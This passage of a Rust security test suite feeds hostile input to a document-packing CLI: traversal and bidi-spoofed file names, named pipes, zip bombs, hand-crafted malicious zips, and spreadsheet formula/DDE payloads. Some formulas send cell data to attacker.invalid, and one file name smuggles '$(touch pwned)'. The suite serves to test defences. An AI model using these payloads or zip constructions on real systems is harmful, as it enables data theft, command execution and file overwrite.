//! Hostile input given to the built `scal`: names that try to climb out of a folder, text that
//! tries to become a formula or drive a terminal, very large and very deep inputs, and archives
//! built to explode. Each must end in a clear refusal (exit 2, one line) or a bounded result,
//! never a crash, a hang or memory in proportion to what the attacker claims.
//!
//! Memory is bounded by running `scal` under `ulimit -v`: a run that tried to hold an
//! exploded archive in memory would abort there, which these tests report as a failure.

use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::Command;

use super::faults::Rng;
use super::*;

/// Address space allowed to `scal` in these tests: far above what it needs (about 300 MiB for
/// the largest input here), far below what an exploded archive would take.
const MEMORY_LIMIT_KIB: u64 = 2 * 1024 * 1024;

/// Runs `scal ARGS` with its address space capped at `MEMORY_LIMIT_KIB`.
fn scal_bounded(args: &[String]) -> Run {
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -v {MEMORY_LIMIT_KIB} && exec \"$0\" \"$@\""
        ))
        .arg(scal_bin())
        .args(args)
        .env("SCAL_AUTHOR", AUTHOR)
        .env_remove("RUST_BACKTRACE")
        .output()
        .expect("sh runs");
    let run = Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    assert!(
        !run.stderr.contains("memory allocation") && run.code != -1,
        "scal {args:?} ran out of its {MEMORY_LIMIT_KIB} KiB or died: {}",
        run.stderr
    );
    run
}

fn strings(args: &[&str]) -> Vec<String> {
    args.iter().map(|s| s.to_string()).collect()
}

/// Every part of a zip file, by name.
fn zip_parts(path: &Path) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut part = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            part.read_to_end(&mut bytes).unwrap();
            (String::from_utf8_lossy(part.name_raw()).into_owned(), bytes)
        })
        .collect()
}

fn answers_file(dir: &Dir, name: &str, rows: Json) -> std::path::PathBuf {
    dir.file(name, serde_json::json!({ "answers": rows }).to_string())
}

// ---------------------------------------------------------------------------------------------
// Names that try to climb out

#[cfg(unix)]
#[test]
fn evidence_names_cannot_climb_out_of_the_pack_or_hide_in_it() {
    let dir = Dir::new();
    let draft = dir.draft("acme.scal");
    scal([
        "answer",
        &p(&draft),
        "nhs-services",
        "UEC Appointment Booking: Consumer",
    ])
    .ok();
    // File names with control characters are refused when attached, with one line.
    let files = dir.path("files");
    std::fs::create_dir(&files).unwrap();
    for name in [
        "red\u{1b}[31mreport.pdf",
        "line\nbreak.pdf",
        "name\u{7}bell.pdf",
    ] {
        let path = files.join(name);
        std::fs::File::create(&path).unwrap();
        let run = scal(["attach", &p(&draft), "uec-consumer.tcr", &p(&path)]);
        let line = run.fails_with(&[
            "cannot be used as an evidence file name",
            "control characters",
        ]);
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
    // File names a Unix disk allows and a Windows unzip, a shell or a terminal would not.
    let hostile = [
        "..\\..\\..\\Windows\\System32\\evil.dll",
        "C:\\evil.pdf",
        ".hidden-report.pdf",
        "CON.pdf",
        "$(touch pwned).pdf",
        "trailing dots...",
        "report.pdf",
        "REPORT.pdf",
        &format!("{}.pdf", "long".repeat(60)),
    ];
    for (n, name) in hostile.iter().enumerate() {
        let path = files.join(name);
        let mut f = std::fs::File::create(&path).unwrap();
        writeln!(f, "evidence number {n}").unwrap();
        scal(["attach", &p(&draft), "uec-consumer.tcr", &p(&path)]).ok();
    }
    let out = dir.path("out");
    scal(["export", &p(&draft), "--out", &p(&out), "--pack"]).ok();
    let pack = out.join("acme-pack.zip");
    scal(["verify-pack", &p(&pack)]).ok();

    let parts = zip_parts(&pack);
    let evidence: Vec<&String> = parts
        .iter()
        .map(|(n, _)| n)
        .filter(|n| n.starts_with("evidence/"))
        .collect();
    assert_eq!(evidence.len(), hostile.len(), "{evidence:?}");
    let mut lower = std::collections::HashSet::new();
    for name in &evidence {
        let file = name.strip_prefix("evidence/").unwrap();
        assert!(
            !file.is_empty() && !file.contains(['/', '\\', ':']),
            "{name:?}"
        );
        assert!(!file.starts_with('.') && !file.ends_with('.'), "{name:?}");
        assert!(!file.chars().any(char::is_control), "{name:?}");
        assert!(!file.to_ascii_uppercase().starts_with("CON."), "{name:?}");
        assert!(file.chars().count() <= 130, "{name:?} is too long");
        assert!(lower.insert(file.to_lowercase()), "{name:?} collides");
    }

    // Unpacked by a plain reader, everything lands inside the folder it is unpacked into.
    let unpacked = dir.path("unpacked");
    zip::ZipArchive::new(std::fs::File::open(&pack).unwrap())
        .unwrap()
        .extract(&unpacked)
        .unwrap();
    let mut count = 0;
    let mut stack = vec![unpacked.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            } else {
                count += 1;
            }
        }
    }
    assert_eq!(count, parts.len());
    let around: Vec<_> = std::fs::read_dir(dir.tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !around.iter().any(|n| n.contains("evil") || n == "Windows"),
        "something escaped the unpacked folder: {around:?}"
    );
}

/// A character that reorders text as it is shown (U+202E and its kin).
fn has_bidi(s: &str) -> bool {
    s.chars().any(|c| {
        matches!(
            c,
            '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
        )
    })
}

#[cfg(unix)]
#[test]
fn bidi_controls_never_reach_a_terminal_a_sheet_or_a_pack_raw() {
    let dir = Dir::new();
    // A section title with an override: the sheet named after it must read as it is.
    let template = dir.file(
        "bidi-template.json",
        MINI_TEMPLATE.replace(
            "\"Appointment booking\"",
            "\"Appointment \u{202E}gnikoob\u{202C} \u{2067}tab\u{2069}\"",
        ),
    );
    let draft = dir.path("bidi.scal");
    scal(["new", &p(&draft), "--template", &p(&template)]).ok();
    // A file shown as "invoicexe.txt" by anything that obeys the override: it is an .exe.
    let files = dir.path("files");
    std::fs::create_dir(&files).unwrap();
    let exe = files.join("invoice\u{202E}txt.exe");
    std::fs::File::create(&exe)
        .unwrap()
        .write_all(b"MZ not really")
        .unwrap();
    scal(["attach", &p(&draft), "tcr", &p(&exe)]).ok();
    // Text keeps what was typed, overrides included: it is data, shown escaped.
    let typed = "Acme \u{202E}dtL\u{202C}";
    scal(["answer", &p(&draft), "supplier_name", typed]).ok();
    // A draft written before names were cleaned may still hold an override in a file name.
    {
        let conn = rusqlite::Connection::open(&draft).unwrap();
        let n = conn
            .execute(
                "UPDATE evidence_links SET file_name = 'old\u{202E}fdp.exe'",
                [],
            )
            .unwrap();
        assert_eq!(n, 1);
    }
    let bat = files.join("scan\u{2066}gpj.bat");
    std::fs::File::create(&bat)
        .unwrap()
        .write_all(b"@echo off")
        .unwrap();
    scal(["attach", &p(&draft), "tcr", &p(&bat)]).ok();

    // On a terminal: shown escaped, never raw.
    let list = scal(["evidence", "list", &p(&draft)]);
    assert!(!has_bidi(list.ok()), "{:?}", list.stdout);
    assert!(list.stdout.contains("scangpj.bat"), "{}", list.stdout);
    assert!(
        list.stdout.contains("old\\u{202E}fdp.exe"),
        "{}",
        list.stdout
    );
    let show = scal(["show", &p(&draft)]);
    assert!(!has_bidi(show.ok()), "{:?}", show.stdout);
    assert!(
        show.stdout.contains("Acme \\u{202E}dtL\\u{202C}"),
        "{}",
        show.stdout
    );
    assert!(
        show.stdout.contains("Appointment \\u{202E}gnikoob"),
        "{}",
        show.stdout
    );
    let history = scal(["history", &p(&draft)]);
    assert!(!has_bidi(history.ok()), "{:?}", history.stdout);
    assert!(
        history.stdout.contains("\\u{202E}dtL"),
        "{}",
        history.stdout
    );
    assert!(
        history.stdout.contains("invoicetxt.exe"),
        "{}",
        history.stdout
    );
    // As JSON the text is exact, its overrides JSON-escaped.
    let json = scal(["show", &p(&draft), "--json"]);
    assert!(!has_bidi(json.ok()), "{:?}", json.stdout);
    assert_eq!(item(&json.json(), "supplier_name")["value"], typed);
    let listed = scal(["evidence", "list", &p(&draft), "--json"]);
    assert!(!has_bidi(listed.ok()), "{:?}", listed.stdout);
    let refused = scal(["answer", &p(&draft), "no\u{202E}such", "x"]);
    assert!(!has_bidi(refused.fails_with(&["no\\u{202E}such"])));

    // In the pack: entry names (and the manifest naming them) read as what the files are.
    let out = dir.path("out");
    scal(["export", &p(&draft), "--out", &p(&out)]).ok();
    let parts = zip_parts(&out.join("bidi-pack.zip"));
    let names: Vec<&String> = parts.iter().map(|(n, _)| n).collect();
    assert!(!names.iter().any(|n| has_bidi(n)), "{names:?}");
    assert!(
        names.contains(&&"evidence/scangpj.bat".to_string()),
        "{names:?}"
    );
    assert!(
        names.contains(&&"evidence/oldfdp.exe".to_string()),
        "{names:?}"
    );
    let (_, manifest) = parts.iter().find(|(n, _)| n == "manifest.json").unwrap();
    let manifest: Json = serde_json::from_slice(manifest).unwrap();
    for file in manifest["files"].as_array().unwrap() {
        assert!(!has_bidi(file["path"].as_str().unwrap()), "{file}");
    }

    // In the workbook: no sheet name holds one.
    use calamine::Reader as _;
    let book: calamine::Xlsx<_> = calamine::open_workbook(out.join("bidi.xlsx")).unwrap();
    let sheets = book.sheet_names();
    assert!(!sheets.iter().any(|s| has_bidi(s)), "{sheets:?}");
    assert!(
        sheets.iter().any(|s| s == "Appointment gnikoob tab"),
        "{sheets:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Files that are not files

/// Runs `scal ARGS`, killing it (and failing the test) if it has not ended within a minute: a
/// command that opened a named pipe would wait for a writer forever. Never a speed measure.
#[cfg(unix)]
fn scal_or_hang(args: &[String]) -> Run {
    use std::process::Stdio;
    let mut child = Command::new(scal_bin())
        .args(args)
        .env("SCAL_AUTHOR", AUTHOR)
        .env_remove("RUST_BACKTRACE")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("scal {args:?} hung: it is waiting on a named pipe");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[cfg(unix)]
fn mkfifo(path: &Path) {
    let made = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(made.success(), "mkfifo {}", path.display());
}

#[cfg(unix)]
#[test]
fn a_named_pipe_given_for_any_file_is_refused_with_one_line_not_waited_on() {
    let dir = Dir::new();
    let draft = dir.mini_draft("acme.scal");
    let other = dir.mini_draft("other.scal");
    let template = dir.path("e2e-mini.json");
    let (_book, imported) = super::workbook::imported(&dir);
    let fifo = |name: &str| {
        let path = dir.path(name);
        mkfifo(&path);
        p(&path)
    };
    let (d, o, t, i) = (p(&draft), p(&other), p(&template), p(&imported));
    let new = p(&dir.path("new.scal"));
    let out_json = p(&dir.path("t.json"));
    let scal_pipe = fifo("pipe.scal");
    let json_pipe = fifo("pipe.json");
    let xlsx_pipe = fifo("pipe.xlsx");
    let zip_pipe = fifo("pipe.zip");
    let pdf_pipe = fifo("pipe.pdf");
    let draft_wanted = "give the path of a .scal draft";
    let cases: Vec<(Vec<&str>, &str, &str)> = vec![
        (vec!["show", &scal_pipe], &scal_pipe, draft_wanted),
        (vec!["check", &scal_pipe], &scal_pipe, draft_wanted),
        (vec!["history", &scal_pipe], &scal_pipe, draft_wanted),
        (
            vec!["evidence", "list", &scal_pipe],
            &scal_pipe,
            draft_wanted,
        ),
        (
            vec!["answer", &scal_pipe, "supplier_name", "x"],
            &scal_pipe,
            draft_wanted,
        ),
        (
            vec!["export", &scal_pipe, "--out", &t],
            &scal_pipe,
            draft_wanted,
        ),
        (vec!["diff", &scal_pipe, &o], &scal_pipe, draft_wanted),
        (vec!["diff", &d, &scal_pipe], &scal_pipe, draft_wanted),
        (
            vec!["copy-answers", &scal_pipe, &o, "--yes"],
            &scal_pipe,
            draft_wanted,
        ),
        (
            vec!["copy-answers", &d, &scal_pipe, "--yes"],
            &scal_pipe,
            draft_wanted,
        ),
        (
            vec!["apply", &d, &json_pipe],
            &json_pipe,
            "give the path of an answers file",
        ),
        (
            vec!["attach", &d, "tcr", &pdf_pipe],
            &pdf_pipe,
            "give the path of a file to attach",
        ),
        (
            vec!["new", &new, "--template", &json_pipe],
            &json_pipe,
            "give the path of a template file",
        ),
        (
            vec!["new", &new, "--template", &xlsx_pipe],
            &xlsx_pipe,
            "give the path of an .xlsx workbook",
        ),
        (
            vec!["new", &new, "--template", &i, "--workbook", &xlsx_pipe],
            &xlsx_pipe,
            "give the path of an .xlsx workbook",
        ),
        (
            vec!["import-template", &xlsx_pipe, "--out", &out_json],
            &xlsx_pipe,
            "give the path of an .xlsx workbook",
        ),
        (
            vec!["upgrade", &d, "--to", &json_pipe],
            &json_pipe,
            "give the path of a template file",
        ),
        (
            vec!["upgrade", &d, "--to", &i, "--workbook", &xlsx_pipe],
            &xlsx_pipe,
            "give the path of an .xlsx workbook",
        ),
        (
            vec!["verify-pack", &zip_pipe],
            &zip_pipe,
            "give the path of a pack",
        ),
    ];
    for (args, pipe, wanted) in cases {
        let run = scal_or_hang(&strings(&args));
        run.fails_with(&[
            &format!("{pipe} is not a regular file (it is a named pipe)"),
            wanted,
        ]);
    }
    assert!(!dir.path("new.scal").exists());
}

/// A zip whose entries are given as (name, bytes), stored or deflated.
fn write_zip(path: &Path, entries: &[(&str, &[u8])]) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for (name, bytes) in entries {
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(bytes.len() > u32::MAX as usize / 2);
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
}

fn manifest(files: &[(&str, &str, u64)]) -> Vec<u8> {
    let files: Vec<Json> = files
        .iter()
        .map(|(path, sha, size)| {
            serde_json::json!({"path": path, "role": "evidence", "sha256": sha, "size": size})
        })
        .collect();
    serde_json::json!({
        "format": "scal-pack/1",
        "tool": "hostile",
        "tool_version": "0",
        "draft_id": "00000000-0000-4000-8000-000000000000",
        "exported_at": "2026-06-15T09:00:00Z",
        "template": {"id": "x", "version": "1.0.0", "title": "X"},
        "answers_digest": "0",
        "complete": false,
        "blocking_issues": 0,
        "files": files,
    })
    .to_string()
    .into_bytes()
}

#[test]
fn a_hostile_pack_is_flagged_entry_by_entry_and_never_unpacked() {
    let dir = Dir::new();
    let inside = dir.path("inside");
    std::fs::create_dir(&inside).unwrap();
    let pack = inside.join("hostile-pack.zip");
    // A zip bomb entry: 1 GiB of zeros (about 1 MiB deflated), listed as 10 bytes.
    let bomb = Bomb::zeros(1 << 30);
    let listed = manifest(&[
        ("../../escaped.txt", "00", 1),
        ("/etc/passwd-copy", "00", 1),
        ("evidence/..\\..\\x.txt", "00", 1),
        ("evidence/bomb.bin", &"0".repeat(64), 10),
    ]);
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&pack).unwrap());
        let deflate = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("manifest.json", deflate).unwrap();
        zip.write_all(&listed).unwrap();
        for name in [
            "../../escaped.txt",
            "/etc/passwd-copy",
            "evidence/..\\..\\x.txt",
        ] {
            zip.start_file(name, deflate).unwrap();
            zip.write_all(b"x").unwrap();
        }
        zip.start_file("evidence/bomb.bin", deflate.large_file(true))
            .unwrap();
        bomb.write_to(&mut zip);
        zip.finish().unwrap();
    }
    assert!(
        std::fs::metadata(&pack).unwrap().len() < 8 << 20,
        "the bomb is small on disk"
    );
    let run = scal_bounded(&strings(&["verify-pack", &p(&pack)]));
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    for name in [
        "../../escaped.txt",
        "/etc/passwd-copy",
        "evidence/..\\..\\x.txt",
        "evidence/bomb.bin",
    ] {
        assert!(
            run.stdout.lines().any(|l| l.contains(name)),
            "{name} is not flagged:\n{}",
            run.stdout
        );
    }
    assert!(!dir.path("escaped.txt").exists());
    let names: Vec<_> = std::fs::read_dir(&inside)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(
        names.len(),
        1,
        "verify-pack wrote beside the pack: {names:?}"
    );
}

/// Highly compressible content written in pieces, so the test itself never holds it.
struct Bomb {
    len: u64,
}

impl Bomb {
    fn zeros(len: u64) -> Bomb {
        Bomb { len }
    }

    fn write_to(&self, w: &mut impl std::io::Write) {
        let block = vec![0u8; 1 << 20];
        let mut left = self.len;
        while left > 0 {
            let take = left.min(block.len() as u64) as usize;
            w.write_all(&block[..take]).unwrap();
            left -= take as u64;
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Packs whose zip structure tells `verify-pack` one thing and `unzip` another, written record by
// record (the zip writer refuses to make most of them)

/// CRC-32 (IEEE), as zip headers carry it.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// Unix file types, as the high half of a zip entry's external attributes carries them.
const REGULAR: u32 = 0o100_644;
const DIRECTORY: u32 = 0o040_755;
const SYMLINK: u32 = 0o120_777;
const FIFO: u32 = 0o010_644;
const CHAR_DEVICE: u32 = 0o020_644;

/// A stored entry's local header declaring `bytes` (sizes and CRC in the header).
fn local_header(name: &[u8], bytes: &[u8]) -> Vec<u8> {
    let mut h = Vec::new();
    h.extend(0x0403_4b50u32.to_le_bytes());
    h.extend(20u16.to_le_bytes()); // version needed: 2.0
    h.extend(0u16.to_le_bytes()); // flags
    h.extend(0u16.to_le_bytes()); // stored
    h.extend([0, 0, 0x21, 0]); // 1980-01-01 00:00
    h.extend(crc32(bytes).to_le_bytes());
    h.extend((bytes.len() as u32).to_le_bytes());
    h.extend((bytes.len() as u32).to_le_bytes());
    h.extend((name.len() as u16).to_le_bytes());
    h.extend(0u16.to_le_bytes()); // no extra field
    h.extend(name);
    h
}

/// One central-directory record: the entry's name, where its local header is, the bytes both
/// headers declare (stored), its unix mode (made on Unix).
struct Central<'a> {
    name: &'a str,
    at: usize,
    bytes: &'a [u8],
    mode: u32,
}

/// `body` (local headers and data), then a central directory of `records` and its end record.
fn finish_zip(mut body: Vec<u8>, records: &[Central<'_>]) -> Vec<u8> {
    let start = body.len();
    for r in records {
        body.extend(0x0201_4b50u32.to_le_bytes());
        body.extend((3u16 << 8 | 20).to_le_bytes()); // made by: Unix, 2.0
        body.extend(20u16.to_le_bytes());
        body.extend(0u16.to_le_bytes());
        body.extend(0u16.to_le_bytes());
        body.extend([0, 0, 0x21, 0]);
        body.extend(crc32(r.bytes).to_le_bytes());
        body.extend((r.bytes.len() as u32).to_le_bytes());
        body.extend((r.bytes.len() as u32).to_le_bytes());
        body.extend((r.name.len() as u16).to_le_bytes());
        body.extend([0u8; 8]); // extra and comment lengths, disk, internal attributes
        body.extend((r.mode << 16).to_le_bytes());
        body.extend((r.at as u32).to_le_bytes());
        body.extend(r.name.as_bytes());
    }
    let size = body.len() - start;
    body.extend(0x0605_4b50u32.to_le_bytes());
    body.extend([0u8; 4]); // disk numbers
    body.extend((records.len() as u16).to_le_bytes());
    body.extend((records.len() as u16).to_le_bytes());
    body.extend((size as u32).to_le_bytes());
    body.extend((start as u32).to_le_bytes());
    body.extend(0u16.to_le_bytes()); // no comment
    body
}

/// One entry of a hand-made pack: its name in the central directory, the name its local
/// header gives, its bytes (stored), its unix mode.
struct Raw<'a> {
    name: &'a str,
    local_name: &'a str,
    bytes: &'a [u8],
    mode: u32,
}

impl<'a> Raw<'a> {
    fn file(name: &'a str, bytes: &'a [u8]) -> Raw<'a> {
        Raw {
            name,
            local_name: name,
            bytes,
            mode: REGULAR,
        }
    }
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// A manifest listing each (path, bytes) with its true SHA-256 and size.
fn true_manifest(listed: &[(&str, &[u8])]) -> Vec<u8> {
    let hashed: Vec<(&str, String, u64)> = listed
        .iter()
        .map(|(path, bytes)| (*path, sha256(bytes), bytes.len() as u64))
        .collect();
    let rows: Vec<(&str, &str, u64)> = hashed
        .iter()
        .map(|(path, sha, size)| (*path, sha.as_str(), *size))
        .collect();
    manifest(&rows)
}

/// A pack written record by record: `manifest.json` (listing `listed` truthfully), then each
/// entry's local header and bytes, then the central directory.
fn hand_made_pack(path: &Path, listed: &[(&str, &[u8])], entries: &[Raw<'_>]) {
    let manifest = true_manifest(listed);
    let mut body = Vec::new();
    let mut records = vec![Central {
        name: "manifest.json",
        at: 0,
        bytes: &manifest,
        mode: REGULAR,
    }];
    body.extend(local_header(b"manifest.json", &manifest));
    body.extend(&manifest);
    for e in entries {
        records.push(Central {
            name: e.name,
            at: body.len(),
            bytes: e.bytes,
            mode: e.mode,
        });
        body.extend(local_header(e.local_name.as_bytes(), e.bytes));
        body.extend(e.bytes);
    }
    scal_store::fsutil::write_atomic(path, &finish_zip(body, &records)).unwrap();
}

/// Runs `scal verify-pack` on `pack` and expects it not confirmed (exit 1, as for any pack
/// that differs from its manifest), with a line for each (entry, words) in `wanted`.
fn refused(pack: &Path, wanted: &[(&str, &str)]) -> Run {
    let run = scal_bounded(&strings(&["verify-pack", &p(pack)]));
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(!run.stdout.contains("Confirmed"), "{}", run.stdout);
    for (entry, words) in wanted {
        assert!(
            run.stdout
                .lines()
                .any(|l| l.starts_with(&format!("{entry}: ")) && l.contains(words)),
            "no line says {entry:?} {words:?}:\n{}",
            run.stdout
        );
    }
    eprintln!("{}", run.stdout);
    run
}

#[test]
fn a_pack_holding_two_copies_of_an_entry_is_refused() {
    let dir = Dir::new();
    let pack = dir.path("twice.zip");
    let genuine: &[u8] = b"the penetration test report, as signed off";
    // The reader's name index keeps one copy (the last); an unzip writes the other first.
    hand_made_pack(
        &pack,
        &[("evidence/report.txt", genuine)],
        &[
            Raw::file(
                "evidence/report.txt",
                b"a report someone changed afterwards",
            ),
            Raw::file("evidence/report.txt", genuine),
        ],
    );
    refused(
        &pack,
        &[(
            "evidence/report.txt",
            "appears more than once: unzip would extract a different copy",
        )],
    );
}

#[test]
fn a_pack_whose_names_collide_on_windows_or_macos_is_refused() {
    let dir = Dir::new();
    let pack = dir.path("cases.zip");
    let genuine: &[u8] = b"the signed report";
    let other: &[u8] = b"another report";
    // Two files to a case-sensitive unzip, one (the last written) on NTFS or APFS.
    hand_made_pack(
        &pack,
        &[
            ("evidence/report.pdf", genuine),
            ("evidence/Report.PDF", other),
            ("evidence/notes.txt.", other),
            ("evidence/notes.txt", genuine),
        ],
        &[
            Raw::file("evidence/report.pdf", genuine),
            Raw::file("evidence/Report.PDF", other),
            Raw::file("evidence/notes.txt.", other),
            Raw::file("evidence/notes.txt", genuine),
        ],
    );
    refused(
        &pack,
        &[
            (
                "evidence/Report.PDF",
                "differs from evidence/report.pdf only in letter case",
            ),
            (
                "evidence/notes.txt",
                "differs from evidence/notes.txt. only in letter case or trailing dots",
            ),
        ],
    );
}

#[test]
fn a_pack_whose_local_header_names_another_path_is_refused() {
    let dir = Dir::new();
    let pack = dir.path("zipslip.zip");
    let bytes: &[u8] = b"the report";
    // The central directory (which verify-pack reads) says evidence/report.txt; a streaming
    // unzip reads the local header, which says ../../ZIPSLIP.txt.
    hand_made_pack(
        &pack,
        &[("evidence/report.txt", bytes)],
        &[Raw {
            local_name: "../../ZIPSLIP.txt",
            ..Raw::file("evidence/report.txt", bytes)
        }],
    );
    refused(
        &pack,
        &[(
            "evidence/report.txt",
            "its name in the local header (../../ZIPSLIP.txt) differs from the central directory's (evidence/report.txt)",
        )],
    );
}

#[test]
fn a_pack_holding_a_symbolic_link_or_a_device_is_refused() {
    let dir = Dir::new();
    let pack = dir.path("links.zip");
    // unzip would create evidence/passwd -> /etc/passwd; the hash is of the 11 bytes of the
    // link's target, which matches.
    let target: &[u8] = b"/etc/passwd";
    hand_made_pack(
        &pack,
        &[
            ("evidence/passwd", target),
            ("evidence/pipe", b""),
            ("evidence/tty", b""),
        ],
        &[
            Raw {
                mode: SYMLINK,
                ..Raw::file("evidence/passwd", target)
            },
            Raw {
                mode: FIFO,
                ..Raw::file("evidence/pipe", b"")
            },
            Raw {
                mode: CHAR_DEVICE,
                ..Raw::file("evidence/tty", b"")
            },
        ],
    );
    refused(
        &pack,
        &[
            ("evidence/passwd", "is a symbolic link"),
            ("evidence/pipe", "not a regular file"),
            ("evidence/tty", "not a regular file"),
        ],
    );
}

#[test]
fn a_pack_with_folders_outside_the_folder_it_is_unzipped_into_is_refused() {
    let dir = Dir::new();
    let pack = dir.path("folders.zip");
    let folder = |name| Raw {
        mode: DIRECTORY,
        ..Raw::file(name, b"")
    };
    hand_made_pack(
        &pack,
        &[],
        &[
            folder("evidence/"),
            folder("/abs/"),
            folder("../x/"),
            folder("evidence/../../y/"),
        ],
    );
    let run = refused(
        &pack,
        &[
            ("/abs/", "outside the folder"),
            ("../x/", "outside the folder"),
            ("evidence/../../y/", "outside the folder"),
        ],
    );
    // A plain folder is fine.
    assert!(!run.stdout.contains("evidence/:"), "{}", run.stdout);
}

#[test]
fn a_pack_hiding_an_entry_the_central_directory_does_not_list_is_refused() {
    let dir = Dir::new();
    let pack = dir.path("hidden.zip");
    let report: &[u8] = b"the report";
    let manifest = true_manifest(&[("evidence/report.txt", report)]);
    // Between the two listed entries, a local header and its data that only a streaming
    // unzip (which reads local headers front to back) would find and extract.
    let mut body = local_header(b"manifest.json", &manifest);
    body.extend(&manifest);
    body.extend(local_header(b"evidence/hidden.exe", b"MZ payload"));
    body.extend(b"MZ payload");
    let at = body.len();
    body.extend(local_header(b"evidence/report.txt", report));
    body.extend(report);
    let records = [
        Central {
            name: "manifest.json",
            at: 0,
            bytes: &manifest,
            mode: REGULAR,
        },
        Central {
            name: "evidence/report.txt",
            at,
            bytes: report,
            mode: REGULAR,
        },
    ];
    scal_store::fsutil::write_atomic(&pack, &finish_zip(body, &records)).unwrap();
    refused(
        &pack,
        &[(
            "hidden.zip",
            "local file header missing from central directory",
        )],
    );
}

#[test]
fn a_pack_whose_entries_share_one_stream_is_refused_without_reading_them_all() {
    let dir = Dir::new();
    let pack = dir.path("overlap.zip");
    // Each entry's stored data is every later entry's local header and then the same 1 MiB,
    // so a pack of n entries re-hashes n MiB from 1 MiB on disk (100,000 entries: 100 GiB).
    let kernel = vec![b'k'; 1 << 20];
    let names = ["evidence/a.bin", "evidence/b.bin", "evidence/c.bin"];
    let mut tail = kernel.clone();
    let mut datas = Vec::new();
    for name in names.iter().rev() {
        datas.push(tail.clone());
        let mut header = local_header(name.as_bytes(), &tail);
        header.extend(&tail);
        tail = header;
    }
    datas.reverse();
    let listed: Vec<(&str, &[u8])> = names
        .iter()
        .zip(&datas)
        .map(|(n, d)| (*n, d.as_slice()))
        .collect();
    let manifest = true_manifest(&listed);
    let mut body = local_header(b"manifest.json", &manifest);
    body.extend(&manifest);
    let mut records = vec![Central {
        name: "manifest.json",
        at: 0,
        bytes: &manifest,
        mode: REGULAR,
    }];
    let mut at = body.len();
    for (name, data) in names.iter().zip(&datas) {
        records.push(Central {
            name,
            at,
            bytes: data,
            mode: REGULAR,
        });
        at += 30 + name.len();
    }
    body.extend(&tail);
    scal_store::fsutil::write_atomic(&pack, &finish_zip(body, &records)).unwrap();

    refused(
        &pack,
        &[
            ("evidence/b.bin", "shares its bytes with evidence/a.bin"),
            ("evidence/c.bin", "shares its bytes with evidence/a.bin"),
        ],
    );
}

#[test]
fn verify_pack_reads_an_entry_no_further_than_the_manifest_declares() {
    let dir = Dir::new();
    let pack = dir.path("bomb.zip");
    // 1 GiB of zeros (about 1 MiB deflated) that the manifest says is 10 bytes: reading stops
    // after the 11th byte instead of inflating the rest.
    let listed = manifest(&[("evidence/bomb.bin", &"0".repeat(64), 10)]);
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&pack).unwrap());
        let deflate = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("manifest.json", deflate).unwrap();
        zip.write_all(&listed).unwrap();
        zip.start_file("evidence/bomb.bin", deflate.large_file(true))
            .unwrap();
        Bomb::zeros(1 << 30).write_to(&mut zip);
        zip.finish().unwrap();
    }
    refused(
        &pack,
        &[(
            "evidence/bomb.bin",
            "size changed (larger than the manifest's 10 bytes; reading stopped there)",
        )],
    );
}

// ---------------------------------------------------------------------------------------------
// Text that tries to be more than text

/// Formula and DDE payloads, as a spreadsheet attacker would type them.
const FORMULAS: [&str; 7] = [
    "=1+1",
    "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=IMPORTXML(CONCAT(\"http://attacker.invalid/\",B2),\"//a\")",
];

#[test]
fn formula_like_answers_and_comments_stay_text_in_the_workbook() {
    let dir = Dir::new();
    let draft = dir.draft("acme.scal");
    let items = [
        "supplier-name",
        "product-name",
        "cso-name",
        "medical-device-justification",
    ];
    let mut rows = vec![
